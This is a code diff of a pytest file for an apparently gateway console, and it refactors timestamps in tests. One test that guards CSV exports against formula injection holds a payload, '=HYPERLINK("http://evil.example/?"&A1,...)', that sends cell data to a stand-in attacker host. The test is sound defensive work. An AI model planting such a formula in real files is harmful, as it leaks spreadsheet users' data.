@@ -15,7 +15,7 @@ import pytest
 from hstgw.abuse import LocalBuckets
 from tests.clocks import ManualClock
 from tests.conftest import Dev, Gateway, start_gateway
-from tests.console.conftest import Browser, make_app, operator
+from tests.console.conftest import Browser, make_app, operator, this_month_ms
 
 
 def _flash(html: str) -> str:
@@ -93,7 +93,7 @@ def test_a_date_out_of_range_is_a_400_not_a_500(
 
 def _post_records(gw: Gateway, app_id: str, count: int) -> None:
     key = gw.new_node()
-    now = gw.clock() - 600_000
+    now = this_month_ms(gw, 600_000)
     events = [
         {
             "event_id": f"cost{i}-{app_id}",
@@ -169,7 +169,7 @@ def test_a_label_a_spreadsheet_would_run_is_text_in_the_csv(
     written as they came, "=HYPERLINK(...)" ran as a formula where the CSV was opened."""
     b = browser_for(console_gw.new_dev())
     app_id = make_app(b, "csvformula")
-    now = console_gw.clock() - 600_000
+    now = this_month_ms(console_gw, 600_000)
     labels = {
         "group_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
         "user_id": "@SUM(1+1)",
